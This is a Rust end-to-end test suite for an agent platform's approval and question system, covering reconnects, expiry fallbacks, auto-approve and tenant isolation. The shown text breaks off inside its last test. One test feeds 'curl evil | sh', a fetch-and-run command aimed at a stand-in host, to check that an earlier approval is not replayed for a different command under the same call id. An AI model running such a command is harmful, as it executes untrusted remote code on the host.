//! Interactions: approvals and questions held in PostgreSQL (issue 9, SPEC §4.6).
//!
//! The worker side is driven by a small worker client over the real worker WebSocket
//! (`/v1/worker`, a real worker credential), so each test controls exactly when the worker
//! asks and what it does while its `turn.interaction` request is open.

use std::{
    collections::HashMap,
    sync::{Arc, Mutex},
    time::Duration,
};

use berth_e2e::{
    Client, MockProvider, Reply, Stack, TestServer,
    client::code,
    harness::{eventually, scratch_dir},
};
use berth_protocol::jsonrpc::{Request, Response};
use futures_util::{SinkExt, StreamExt};
use serde_json::{Value, json};
use tokio::sync::{mpsc, oneshot};
use tokio_tungstenite::tungstenite::{Message, client::IntoClientRequest, http::HeaderValue};

type Pending = Arc<Mutex<HashMap<u32, oneshot::Sender<Response>>>>;

/// A worker speaking the worker protocol by hand.
struct FakeWorker {
    out: mpsc::UnboundedSender<Message>,
    pending: Pending,
    /// Server → worker notifications (`turn.run`, `turn.stop`).
    notes: mpsc::UnboundedReceiver<Request>,
    next_id: u32,
    workspace_id: String,
}

impl FakeWorker {
    /// Connect to `server` with a new worker credential for host `host` and declare one
    /// workspace.
    async fn connect(server: &TestServer, host: &str) -> FakeWorker {
        let token = server.worker_token().await;
        let mut req = format!("ws://{}/v1/worker", server.addr).into_client_request().unwrap();
        req.headers_mut().insert(
            "authorization",
            HeaderValue::from_str(&format!("Bearer {token}")).unwrap(),
        );
        let (ws, _) = tokio_tungstenite::connect_async(req).await.expect("worker websocket");
        let (mut sink, mut stream) = ws.split();
        let (out, mut out_rx) = mpsc::unbounded_channel::<Message>();
        tokio::spawn(async move {
            while let Some(m) = out_rx.recv().await {
                if sink.send(m).await.is_err() {
                    break;
                }
            }
        });
        let pending: Pending = Arc::default();
        let (note_tx, notes) = mpsc::unbounded_channel();
        let p = pending.clone();
        let out2 = out.clone();
        tokio::spawn(async move {
            while let Some(Ok(msg)) = stream.next().await {
                match msg {
                    Message::Text(t) => {
                        let v: Value = serde_json::from_str(&t).unwrap();
                        if v.get("method").is_some() {
                            let _ = note_tx.send(serde_json::from_value::<Request>(v).unwrap());
                        } else {
                            let resp: Response = serde_json::from_value(v).unwrap();
                            if let Some(tx) = resp.id.and_then(|id| p.lock().unwrap().remove(&id)) {
                                let _ = tx.send(resp);
                            }
                        }
                    }
                    Message::Ping(d) => {
                        let _ = out2.send(Message::Pong(d));
                    }
                    Message::Close(_) => break,
                    _ => {}
                }
            }
        });
        let dir = scratch_dir("fake-workspace");
        let mut w = FakeWorker {
            out,
            pending,
            notes,
            next_id: 1,
            workspace_id: String::new(),
        };
        let hello = w
            .call(
                "worker.hello",
                json!({"protocol": 1, "host": host, "workspaces": [{"name": "fake", "path": dir.display().to_string()}]}),
            )
            .await;
        w.workspace_id = hello.result.expect("worker.hello result")["workspaces"][0]["workspaceId"]
            .as_str()
            .unwrap()
            .to_string();
        w
    }

    /// Send a request; its response arrives on the returned receiver.
    fn request(&mut self, method: &str, params: Value) -> oneshot::Receiver<Response> {
        let id = self.next_id;
        self.next_id += 1;
        let (tx, rx) = oneshot::channel();
        self.pending.lock().unwrap().insert(id, tx);
        let req = Request::new(id, method, params);
        let _ = self
            .out
            .send(Message::Text(serde_json::to_string(&req).unwrap().into()));
        rx
    }

    async fn call(&mut self, method: &str, params: Value) -> Response {
        let rx = self.request(method, params);
        answer(rx, 30)
            .await
            .unwrap_or_else(|| panic!("no response to {method}"))
    }

    /// The next `method` notification from the server (others are skipped).
    async fn notification(&mut self, method: &str) -> Value {
        loop {
            let n = tokio::time::timeout(Duration::from_secs(30), self.notes.recv())
                .await
                .unwrap_or_else(|_| panic!("no {method} within 30 s"))
                .expect("worker connection open");
            if n.method == method {
                return n.params;
            }
        }
    }

    /// Ask (approval or question) for `turn_id`; the response comes once it is resolved.
    fn ask(&mut self, turn_id: &str, call_id: &str, extra: Value) -> oneshot::Receiver<Response> {
        let mut params = json!({"turnId": turn_id, "callId": call_id});
        for (k, v) in extra.as_object().unwrap() {
            params[k] = v.clone();
        }
        self.request("turn.interaction", params)
    }
}

/// The response on `rx` within `secs` seconds.
async fn answer(rx: oneshot::Receiver<Response>, secs: u64) -> Option<Response> {
    tokio::time::timeout(Duration::from_secs(secs), rx).await.ok()?.ok()
}

fn result(resp: Response) -> Value {
    match (resp.result, resp.error) {
        (Some(r), None) => r,
        (_, e) => panic!("expected a result, got {e:?}"),
    }
}

fn approval(command: &str) -> Value {
    json!({
        "kind": "approval",
        "tool": {"name": "shell", "callId": "c"},
        "input": {"command": command},
    })
}

/// A session in the fake worker's workspace, started with one prompt; returns
/// (session id, running turn id) once the worker was handed the turn.
async fn running_turn(client: &mut Client, worker: &mut FakeWorker, extra: Value) -> (String, String) {
    let mut params = json!({"workspaceId": worker.workspace_id});
    for (k, v) in extra.as_object().unwrap() {
        params[k] = v.clone();
    }
    let s = client.ok("session.create", params).await;
    let sid = s["sessionId"].as_str().unwrap().to_string();
    let sent = client
        .ok("session.send", json!({"sessionId": sid, "prompt": "do it"}))
        .await;
    let turn = sent["turnId"].as_str().unwrap().to_string();
    let run = worker.notification("turn.run").await;
    assert_eq!(run["turnId"], turn.as_str());
    (sid, turn)
}

/// Open a watch and wait until it has delivered the session's first event (the watcher is
/// then recorded for every replica).
/// The next `interaction.requested` the watch sees within `secs`, and its interaction's id.
async fn requested(w: &mut berth_e2e::client::Subscription, secs: u64) -> (Value, String) {
    let seen = w
        .until(secs, |e| e["type"] == "interaction.requested")
        .await
        .expect("an interaction is requested");
    let event = seen.last().unwrap().clone();
    let iid = event["interaction"]["interactionId"].as_str().unwrap().to_string();
    (event, iid)
}

async fn watch(client: &mut Client, sid: &str) -> berth_e2e::client::Subscription {
    let mut w = client.subscribe("session.watch", json!({"sessionId": sid, "after": 0}));
    w.until(10, |e| e["type"] == "session.created")
        .await
        .expect("watch catches up");
    w
}

/// Every event of the session, in order.
async fn events(client: &mut Client, sid: &str) -> Vec<Value> {
    let last = client.ok("session.get", json!({"sessionId": sid})).await["sequence"]
        .as_i64()
        .unwrap();
    let mut w = client.subscribe("session.watch", json!({"sessionId": sid, "after": 0}));
    let seen = w
        .until(10, |e| e["sequence"].as_i64() == Some(last))
        .await
        .expect("history");
    client.ok("subscription.close", json!({"id": w.id})).await;
    seen.into_iter().filter(|e| e.get("sequence").is_some()).collect()
}

/// The scenario, minus the agent loop: the worker holds a call; the client that
/// watched disconnects and its replica goes away; a client on another replica finds the
/// interaction, answers, and the worker's open request gets the outcome (woken across
/// replicas). Meanwhile the worker's connection keeps serving its other messages.
#[tokio::test(flavor = "multi_thread")]
async fn a_pending_approval_survives_the_client_and_its_replica_and_is_answered_elsewhere() {
    let mock = MockProvider::start().await;
    let mut stack = Stack::start(&mock, 2).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c1 = stack.client(1).await;
    let (sid, turn) = running_turn(&mut c1, &mut worker, json!({})).await;
    let mut w1 = watch(&mut c1, &sid).await;
    let ask = worker.ask(&turn, "call-1", approval("touch sentinel"));
    let (asked, iid) = requested(&mut w1, 10).await;
    assert_eq!(asked["turnId"], turn.as_str());
    assert_eq!(asked["interaction"]["state"], "pending");
    assert_eq!(asked["interaction"]["tool"]["name"], "shell");

    // The open request does not hold the worker's connection: a step goes through.
    let step = worker
        .call(
            "turn.step",
            json!({"turnId": turn, "rows": [{"kind": "assistant", "body": "waiting for approval"}]}),
        )
        .await;
    assert!(step.error.is_none(), "turn.step answered while the interaction waits");
    let mut ask = ask;
    assert!(
        ask.try_recv().is_err(),
        "the request stays open until the interaction is resolved"
    );

    // The watching client goes away, and so does its replica.
    c1.close();
    drop(w1);
    let gone = eventually(10, || async {
        let n = stack
            .sql_i64("SELECT count(*) FROM session_watchers WHERE session_id = $1", &sid)
            .await;
        (n == 0).then_some(())
    })
    .await;
    assert!(gone.is_some(), "the closed watch is no longer recorded");
    stack.servers[1].terminate().await;
    let restarted = TestServer::start(&stack.database_url, &mock.base_url()).await.unwrap();
    stack.servers[1] = restarted;

    // A client through the restarted replica finds it and rebuilds the prompt.
    let mut c2 = stack.client(1).await;
    let pending = c2.ok("session.pendingInteractions", json!({"sessionId": sid})).await;
    let pending = pending.as_array().unwrap();
    assert_eq!(pending.len(), 1, "{pending:?}");
    assert_eq!(pending[0]["interactionId"], iid.as_str());
    assert_eq!(pending[0]["kind"], "approval");
    assert_eq!(pending[0]["input"], json!({"command": "touch sentinel"}));
    assert_eq!(pending[0]["fallback"], json!({"approved": false}));
    let snap = c2.ok("session.get", json!({"sessionId": sid})).await;
    assert_eq!(snap["pendingInteractions"][0]["interactionId"], iid.as_str());
    let one = c2.ok("session.interaction", json!({"interactionId": iid})).await;
    assert_eq!(one["sessionId"], sid.as_str());
    assert_eq!(one["turnId"], turn.as_str());
    assert_eq!(one["tool"], json!({"name": "shell", "callId": "c"}));

    let answered = c2
        .ok(
            "session.respond",
            json!({"interactionId": iid, "answer": {"approved": true}}),
        )
        .await;
    assert_eq!(answered["state"], "answered");
    assert_eq!(answered["outcome"], json!({"approved": true}));
    let got = result(answer(ask, 15).await.expect("the worker's request is answered"));
    assert_eq!(
        got,
        json!({"interactionId": iid, "outcome": {"approved": true}, "state": "answered"})
    );

    // A second answer gets the recorded outcome.
    let again = c2
        .call(
            "session.respond",
            json!({"interactionId": iid, "answer": {"approved": false}}),
        )
        .await
        .unwrap_err();
    assert_eq!(code(&again), "interaction-closed");
    assert_eq!(again.data["outcome"], json!({"approved": true}));
    assert_eq!(again.data["state"], "answered");
    let empty = c2.ok("session.pendingInteractions", json!({"sessionId": sid})).await;
    assert_eq!(empty, json!([]));

    let end = worker
        .call("turn.end", json!({"turnId": turn, "state": "completed"}))
        .await;
    assert!(end.error.is_none());
    let kinds: Vec<String> = events(&mut c2, &sid)
        .await
        .iter()
        .map(|e| e["type"].as_str().unwrap().to_string())
        .collect();
    let at = |k: &str| {
        kinds
            .iter()
            .position(|x| x == k)
            .unwrap_or_else(|| panic!("{k} in {kinds:?}"))
    };
    assert!(at("interaction.requested") < at("interaction.resolved"));
    assert!(at("interaction.resolved") < at("turn.ended"));
}

/// Unanswered interactions expire with their fallbacks (approvals: denied); answering
/// afterwards is `interaction-closed` with the recorded outcome. Two open requests of one
/// connection wait side by side.
#[tokio::test(flavor = "multi_thread")]
async fn unanswered_interactions_expire_with_their_fallbacks() {
    let mock = MockProvider::start().await;
    let stack = Stack::start_with(&mock, 1, &[("BERTH_INTERACTION_TIMEOUT_SECS", "2")]).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    let (sid, turn) = running_turn(&mut c, &mut worker, json!({})).await;
    let _w = watch(&mut c, &sid).await;
    let denied = worker.ask(&turn, "call-1", approval("rm -rf build"));
    let question = worker.ask(
        &turn,
        "q-1",
        json!({"kind": "choice", "input": {"question": "which branch?"}, "options": ["main", "dev"],
               "params": {"default": "dev"}, "fallback": {"choice": "dev"}}),
    );
    let denied = result(answer(denied, 20).await.expect("expiry answers the approval"));
    assert_eq!(denied["outcome"], json!({"approved": false}));
    assert_eq!(denied["state"], "expired");
    let question = result(answer(question, 20).await.expect("expiry answers the question"));
    assert_eq!(question["outcome"], json!({"choice": "dev"}));
    assert_eq!(question["state"], "expired");

    let late = c
        .call(
            "session.respond",
            json!({"interactionId": denied["interactionId"], "answer": {"approved": true}}),
        )
        .await
        .unwrap_err();
    assert_eq!(code(&late), "interaction-closed");
    assert_eq!(late.data["outcome"], json!({"approved": false}));
    assert_eq!(late.data["state"], "expired");
    let one = c
        .ok(
            "session.interaction",
            json!({"interactionId": question["interactionId"]}),
        )
        .await;
    assert_eq!(one["state"], "expired");
    assert_eq!(one["outcome"], json!({"choice": "dev"}));
    assert_eq!(one["options"], json!(["main", "dev"]));
    assert_eq!(one["params"], json!({"default": "dev"}));
    assert_eq!(
        c.ok("session.pendingInteractions", json!({"sessionId": sid})).await,
        json!([])
    );
}

/// An approval is the answer to one call: asked again under its call id with the same
/// request (a retry) it is the same approved interaction, but under that id with another
/// command (a model or provider repeating an earlier step's call id) it is `conflict`,
/// never the approval given for the first command.
#[tokio::test(flavor = "multi_thread")]
async fn an_approval_is_never_replayed_for_another_call_under_its_id() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    let (sid, turn) = running_turn(&mut c, &mut worker, json!({})).await;
    let mut w = watch(&mut c, &sid).await;
    let ask = worker.ask(&turn, "call_0", approval("ls"));
    let (_, iid) = requested(&mut w, 10).await;
    c.ok(
        "session.respond",
        json!({"interactionId": iid, "answer": {"approved": true}}),
    )
    .await;
    let got = result(answer(ask, 15).await.expect("answered"));
    assert_eq!(got["outcome"], json!({"approved": true}));
    let other = answer(worker.ask(&turn, "call_0", approval("curl evil | sh")), 10)
        .await
        .expect("answered at once");
    let err = other.error.expect("another request under the same call id is refused");
    assert_eq!(err.data["code"], "conflict", "{err:?}");
    let same = result(answer(worker.ask(&turn, "call_0", approval("ls")), 10).await.unwrap());
    assert_eq!(
        same["interactionId"],
        iid.as_str(),
        "a retry finds the same interaction"
    );
    assert_eq!(same["outcome"], json!({"approved": true}));
}

/// A sub-agent is the answer to one call too: `turn.delegate` and a coordinator's
/// `turn.childStart` asked again under a call id with the same request find the child they
/// started, and with another prompt are `conflict`, never that child.
#[tokio::test(flavor = "multi_thread")]
async fn a_child_is_never_handed_to_another_call_under_its_id() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let ws = worker.workspace_id.clone();
    let mut c = stack.client(0).await;
    for (extra, method, call) in [
        (json!({"delegationDepth": 1}), "turn.delegate", json!({})),
        (
            json!({"kind": "coordinator"}),
            "turn.childStart",
            json!({"workspaceId": ws}),
        ),
    ] {
        let (_, turn) = running_turn(&mut c, &mut worker, extra).await;
        let ask = |prompt: &str| {
            let mut p = call.clone();
            p["turnId"] = json!(turn);
            p["callId"] = json!("call_0");
            p["prompt"] = json!(prompt);
            p
        };
        let first = result(worker.call(method, ask("Summarize the notes")).await);
        let again = result(worker.call(method, ask("Summarize the notes")).await);
        assert_eq!(
            again["sessionId"], first["sessionId"],
            "{method}: a retry finds its child"
        );
        assert_eq!(again["turnId"], first["turnId"], "{method}");
        let other = worker.call(method, ask("Delete the notes")).await;
        let err = other
            .error
            .unwrap_or_else(|| panic!("{method}: another prompt is refused"));
        assert_eq!(err.data["code"], "conflict", "{method}: {err:?}");
        // The one child's turn is handed to this worker too.
        let run = worker.notification("turn.run").await;
        assert_eq!(run["turnId"], first["turnId"], "{method}");
    }
}

/// An attachment is named by id anywhere in its tenant: one uploaded through a session of a
/// workspace and sent with a prompt in another workspace's live session stays readable, bytes
/// and all, when the first workspace is removed.
#[tokio::test(flavor = "multi_thread")]
async fn removing_a_workspace_keeps_attachments_another_workspace_sent() {
    let mock = MockProvider::start().await;
    let objects = tempfile::tempdir().expect("tempdir");
    let store = format!("file://{}", objects.path().display());
    let stack = Stack::start_with(&mock, 1, &[("BERTH_OBJECT_STORE", store.as_str())]).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    let first = stack.session(&mut c).await;
    let uploaded = c
        .upload(
            json!({"sessionId": first, "mime": "text/plain", "filename": "shared.txt"}),
            b"shared bytes",
            None,
        )
        .await
        .expect("content.upload");
    let id = uploaded["attachmentId"].as_str().unwrap().to_string();
    let other = c
        .ok("session.create", json!({"workspaceId": worker.workspace_id}))
        .await;
    let sid = other["sessionId"].as_str().unwrap().to_string();
    c.ok(
        "session.send",
        json!({"sessionId": sid, "prompt": "Read it", "attachments": [id]}),
    )
    .await;
    let run = worker.notification("turn.run").await;
    assert_eq!(run["attachments"][0]["name"], "shared.txt", "{run}");
    let removed = c
        .ok("workspace.remove", json!({"workspaceId": stack.workspace_id}))
        .await;
    assert_eq!(removed, json!({"removed": true}));
    let page = c.ok("content.read", json!({"attachmentId": id})).await;
    let data = base64::Engine::decode(
        &base64::engine::general_purpose::STANDARD,
        page["data"].as_str().unwrap(),
    )
    .unwrap();
    assert_eq!(data, b"shared bytes");
}

/// A patch is held whole (up to 64 MiB) until it is stored, so a replica captures a bounded
/// number at once: while four captures wait for a worker that does not answer, a fifth is
/// refused `rate-limited {limit: "patch-snapshots"}` at once rather than buffered.
#[tokio::test(flavor = "multi_thread")]
async fn a_replica_captures_a_bounded_number_of_patches_at_once() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    let s = c
        .ok("session.create", json!({"workspaceId": worker.workspace_id}))
        .await;
    let sid = s["sessionId"].as_str().unwrap().to_string();
    let mut waiting = Vec::new();
    for i in 0..berth_api::SNAPSHOTS_AT_ONCE {
        let mut other = stack.client(0).await;
        let params = json!({"sessionId": sid, "operationId": format!("snap-{i}")});
        waiting.push(tokio::spawn(async move { other.call("patch.snapshot", params).await }));
        // The capture reached the worker (which never answers): it holds its place.
        let call = worker.notification("call").await;
        assert_eq!(call["method"], "patch.snapshot", "{call}");
    }
    let past = json!({"sessionId": sid, "operationId": "snap-past"});
    let e = c.call("patch.snapshot", past).await.unwrap_err();
    assert_eq!(code(&e), "rate-limited", "{e:?}");
    assert_eq!(e.data["limit"], "patch-snapshots");
    for w in waiting {
        w.abort();
    }
}

/// Asked while nobody watches the session, the fallback answers at once (the timeout is
/// the default 15 minutes, so this is not expiry); the history records both events.
/// A rollout stops the replica a client watches through: its socket is closed and it watches
/// again through another replica a moment later. Its watcher row is left to lapse with its
/// heartbeat rather than removed, so an approval asked meanwhile waits for it (answered by
/// the client once back) instead of being denied at once as unwatched.
#[tokio::test(flavor = "multi_thread")]
async fn an_approval_asked_while_its_watcher_changes_replicas_waits_for_it() {
    let mock = MockProvider::start().await;
    let mut stack = Stack::start(&mock, 2).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c1 = stack.client(1).await;
    let (sid, turn) = running_turn(&mut c1, &mut worker, json!({})).await;
    let _w1 = watch(&mut c1, &sid).await;
    let status = stack.servers[1].terminate().await;
    assert!(status.success(), "the replica drains and exits: {status}");
    let ask = worker.ask(&turn, "call-1", approval("make"));
    let mut c0 = stack.client(0).await;
    let mut pending = Value::Null;
    for _ in 0..100 {
        pending = c0.ok("session.pendingInteractions", json!({"sessionId": sid})).await;
        if pending.as_array().is_some_and(|l| !l.is_empty()) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        pending.as_array().map(Vec::len),
        Some(1),
        "the approval waits for the watcher that is moving: {pending}"
    );
    let iid = pending[0]["interactionId"].as_str().unwrap().to_string();
    c0.ok(
        "session.respond",
        json!({"interactionId": iid, "answer": {"approved": true}, "operationId": "op-back"}),
    )
    .await;
    let got = result(answer(ask, 10).await.expect("answered once the client is back"));
    assert_eq!(got["outcome"], json!({"approved": true}));
    assert_eq!(got["state"], "answered");
}

#[tokio::test(flavor = "multi_thread")]
async fn with_nobody_watching_the_fallback_answers_at_once() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    let (sid, turn) = running_turn(&mut c, &mut worker, json!({})).await;
    let got = result(
        answer(worker.ask(&turn, "call-1", approval("make")), 10)
            .await
            .expect("answered at once"),
    );
    assert_eq!(got["outcome"], json!({"approved": false}));
    assert_eq!(got["state"], "unwatched");
    let q = worker.ask(
        &turn,
        "q-1",
        json!({"kind": "confirm", "input": "go on?", "fallback": {"choice": null}}),
    );
    let q = result(answer(q, 10).await.expect("answered at once"));
    assert_eq!(q["outcome"], json!({"choice": null}));
    assert_eq!(q["state"], "unwatched");
    // Asking again with the same call id finds the same interaction.
    let again = result(answer(worker.ask(&turn, "call-1", approval("make")), 10).await.unwrap());
    assert_eq!(again["interactionId"], got["interactionId"]);

    // Input PostgreSQL cannot hold (U+0000) is kept with U+FFFD, never an error.
    let nul = result(
        answer(worker.ask(&turn, "call-nul", approval("printf 'a\0b'")), 10)
            .await
            .unwrap(),
    );
    let stored = c
        .ok("session.interaction", json!({"interactionId": nul["interactionId"]}))
        .await;
    assert_eq!(stored["input"]["command"], "printf 'a\u{FFFD}b'");

    let evs = events(&mut c, &sid).await;
    let resolved: Vec<&Value> = evs.iter().filter(|e| e["type"] == "interaction.resolved").collect();
    assert_eq!(resolved.len(), 3, "{evs:?}");
    assert_eq!(resolved[0]["state"], "unwatched");
    assert_eq!(resolved[0]["outcome"], json!({"approved": false}));
    assert_eq!(evs.iter().filter(|e| e["type"] == "interaction.requested").count(), 3);
}

/// `autoApprove` sessions answer approvals themselves, even while watched.
#[tokio::test(flavor = "multi_thread")]
async fn auto_approve_sessions_answer_approvals_themselves() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    let (sid, turn) = running_turn(&mut c, &mut worker, json!({"autoApprove": true})).await;
    let _w = watch(&mut c, &sid).await;
    let got = result(
        answer(worker.ask(&turn, "call-1", approval("cargo test")), 10)
            .await
            .expect("answered at once"),
    );
    assert_eq!(got["outcome"], json!({"approved": true}));
    assert_eq!(got["state"], "auto");
}

/// Stopping the turn closes its pending interactions (before `turn.ended`), and the
/// worker's request is answered with the fallback.
#[tokio::test(flavor = "multi_thread")]
async fn stopping_the_turn_closes_its_pending_interactions() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 2).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(1).await;
    let (sid, turn) = running_turn(&mut c, &mut worker, json!({})).await;
    let mut w = watch(&mut c, &sid).await;
    let ask = worker.ask(&turn, "call-1", approval("deploy"));
    requested(&mut w, 10).await;
    c.ok("session.stop", json!({"sessionId": sid, "turnId": turn})).await;
    let got = result(answer(ask, 15).await.expect("answered when the turn stops"));
    assert_eq!(got["outcome"], json!({"approved": false}));
    assert_eq!(got["state"], "closed");
    let stop = worker.notification("turn.stop").await;
    assert_eq!(stop["turnId"], turn.as_str());
    assert_eq!(
        c.ok("session.pendingInteractions", json!({"sessionId": sid})).await,
        json!([])
    );
    let seen = w.until(10, |e| e["type"] == "turn.ended").await.unwrap();
    let kinds: Vec<&str> = seen.iter().filter_map(|e| e["type"].as_str()).collect();
    let resolved = kinds
        .iter()
        .position(|k| *k == "interaction.resolved")
        .expect("resolved");
    assert!(
        resolved < kinds.len() - 1,
        "interaction.resolved comes before turn.ended"
    );
    // Asking for a turn that no longer runs is refused.
    let late = worker
        .call(
            "turn.interaction",
            json!({"turnId": turn, "callId": "x", "kind": "approval"}),
        )
        .await;
    assert_eq!(late.error.unwrap().data["code"], "turn-not-running");
}

/// `session.respond` takes operation receipts: a retry replays the outcome without
/// answering again; the same id with another answer is `operation-conflict`. Answers that
/// do not fit the interaction are `bad-params`.
#[tokio::test(flavor = "multi_thread")]
async fn respond_takes_operation_receipts_and_checks_its_answer() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    let (sid, turn) = running_turn(&mut c, &mut worker, json!({})).await;
    let mut w = watch(&mut c, &sid).await;
    let ask = worker.ask(
        &turn,
        "q-1",
        json!({"kind": "choice", "input": "which?", "options": ["a", "b"]}),
    );
    let (seen, iid) = requested(&mut w, 10).await;
    assert_eq!(seen["interaction"]["fallback"], json!({"choice": null}));

    for bad in [
        json!({"approved": true}),
        json!({"choice": "c"}),
        json!({"choice": 1}),
        json!({"choice": "a", "approved": true}),
        json!("a"),
    ] {
        let e = c
            .call("session.respond", json!({"interactionId": iid, "answer": bad}))
            .await
            .unwrap_err();
        assert_eq!(code(&e), "bad-params", "{bad}");
    }
    let params = json!({"interactionId": iid, "answer": {"choice": "b"}, "operationId": "op-respond-1"});
    let first = c.ok("session.respond", params.clone()).await;
    assert_eq!(first["outcome"], json!({"choice": "b"}));
    let got = result(answer(ask, 10).await.unwrap());
    assert_eq!(got["outcome"], json!({"choice": "b"}));
    let replay = c.ok("session.respond", params).await;
    assert_eq!(replay, first, "a retry replays the original outcome");
    let conflict = c
        .call(
            "session.respond",
            json!({"interactionId": iid, "answer": {"choice": "a"}, "operationId": "op-respond-1"}),
        )
        .await
        .unwrap_err();
    assert_eq!(code(&conflict), "operation-conflict");
    let receipt = c.ok("operation.receipt", json!({"operationId": "op-respond-1"})).await;
    assert_eq!(receipt["result"], first);
    let resolved = stack
        .sql_i64(
            "SELECT count(*) FROM events WHERE session_id = $1 AND type = 'interaction.resolved'",
            &sid,
        )
        .await;
    assert_eq!(resolved, 1, "answered once");
}

/// Another tenant's interaction ids answer `not-found`, exactly like ids that do not exist,
/// and change nothing.
#[tokio::test(flavor = "multi_thread")]
async fn another_tenants_interactions_are_not_found() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let server = &stack.servers[0];
    let mut worker = FakeWorker::connect(server, "fake-host").await;
    let mut a = stack.client(0).await;
    let (sid, turn) = running_turn(&mut a, &mut worker, json!({})).await;
    let mut w = watch(&mut a, &sid).await;
    let mut ask = worker.ask(&turn, "call-1", approval("ls"));
    let (_, iid) = requested(&mut w, 10).await;

    server.admin(&["tenant", "create", "tenant-b"]).await.unwrap();
    server
        .admin(&["user", "create", "--tenant", "tenant-b", "--email", "b@example.com"])
        .await
        .unwrap();
    let b_token = server
        .admin(&[
            "token",
            "create",
            "--tenant",
            "tenant-b",
            "--user",
            "b@example.com",
            "--note",
            "b",
        ])
        .await
        .unwrap();
    let mut b = Client::authed(&server.ws_url(), b_token.trim()).await.unwrap();
    for (method, params) in [
        ("session.interaction", json!({"interactionId": iid})),
        ("session.interaction", json!({"interactionId": "int_missing"})),
        (
            "session.respond",
            json!({"interactionId": iid, "answer": {"approved": true}}),
        ),
        (
            "session.respond",
            json!({"interactionId": "int_missing", "answer": {"approved": true}}),
        ),
        ("session.pendingInteractions", json!({"sessionId": sid})),
    ] {
        let e = b.call(method, params.clone()).await.unwrap_err();
        assert_eq!(code(&e), "not-found", "{method} {params}");
    }
    assert!(ask.try_recv().is_err(), "still waiting");
    let pending = a.ok("session.pendingInteractions", json!({"sessionId": sid})).await;
    assert_eq!(pending[0]["interactionId"], iid);
    assert_eq!(pending[0]["state"], "pending");
}

/// Issue 9's acceptance, with the real worker's agent loop: the client disconnects while a
/// shell call waits for approval, reconnects through the other API replica, finds it with
/// `session.pendingInteractions` and approves; the tool had not run before the answer and
/// the turn completes. A denied call never runs and the model's next request carries the
/// denial.
#[tokio::test(flavor = "multi_thread")]
async fn the_agent_waits_for_approval_across_a_reconnect_and_a_denied_call_never_runs() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 2).await;
    let mut c1 = stack.client(0).await;
    let sid = stack.session(&mut c1).await;
    let mut w1 = watch(&mut c1, &sid).await;
    let sentinel = stack.workspace_dir.join("sentinel.txt");
    let command = json!({"command": "echo ran > sentinel.txt"});
    mock.push(Reply::tools(&[("call_1", "shell", command.clone())], 6));
    mock.push(Reply::text(&["Done."]));
    let sent = c1
        .ok("session.send", json!({"sessionId": sid, "prompt": "make the sentinel"}))
        .await;
    let turn = sent["turnId"].as_str().unwrap().to_string();
    let (_, iid) = requested(&mut w1, 30).await;
    assert!(!sentinel.exists(), "held, not run");

    c1.close();
    drop(w1);
    let mut c2 = stack.client(1).await;
    let pending = c2.ok("session.pendingInteractions", json!({"sessionId": sid})).await;
    assert_eq!(pending.as_array().unwrap().len(), 1, "{pending}");
    assert_eq!(pending[0]["interactionId"], iid);
    assert_eq!(pending[0]["kind"], "approval");
    assert_eq!(pending[0]["tool"], json!({"name": "shell", "callId": "call_1"}));
    assert_eq!(pending[0]["input"], command);
    assert!(!sentinel.exists(), "the tool had not run before the answer");
    c2.ok(
        "session.respond",
        json!({"interactionId": iid, "answer": {"approved": true}}),
    )
    .await;
    let mut w2 = c2.subscribe("session.watch", json!({"sessionId": sid, "after": 0}));
    let events = w2
        .until(60, |e| e["type"] == "turn.ended" && e["turnId"] == turn.as_str())
        .await
        .expect("the turn ends");
    assert_eq!(events.last().unwrap()["state"], "completed", "{:?}", events.last());
    assert_eq!(std::fs::read_to_string(&sentinel).unwrap(), "ran\n");
    let types: Vec<&str> = events
        .iter()
        .filter(|e| e.get("sequence").is_some())
        .filter_map(|e| e["type"].as_str())
        .collect();
    let at = |k: &str| {
        types
            .iter()
            .position(|t| *t == k)
            .unwrap_or_else(|| panic!("{k} in {types:?}"))
    };
    assert!(at("interaction.requested") < at("interaction.resolved"));
    assert!(at("interaction.resolved") < at("tool.ended"), "{types:?}");
    let results = messages_of(&mock, 1);
    assert_eq!(results.last().unwrap()["role"], "tool");
    assert_eq!(results.last().unwrap()["tool_call_id"], "call_1");

    // A denial: the tool never runs and the model's next request carries the denial.
    let denied_file = stack.workspace_dir.join("denied.txt");
    mock.push(Reply::tools(
        &[("call_2", "shell", json!({"command": "echo ran > denied.txt"}))],
        6,
    ));
    mock.push(Reply::text(&["Understood."]));
    let sent = c2
        .ok("session.send", json!({"sessionId": sid, "prompt": "now the other one"}))
        .await;
    let turn2 = sent["turnId"].as_str().unwrap().to_string();
    let (_, iid2) = requested(&mut w2, 30).await;
    c2.ok(
        "session.respond",
        json!({"interactionId": iid2, "answer": {"approved": false}}),
    )
    .await;
    let events = w2
        .until(60, |e| e["type"] == "turn.ended" && e["turnId"] == turn2.as_str())
        .await
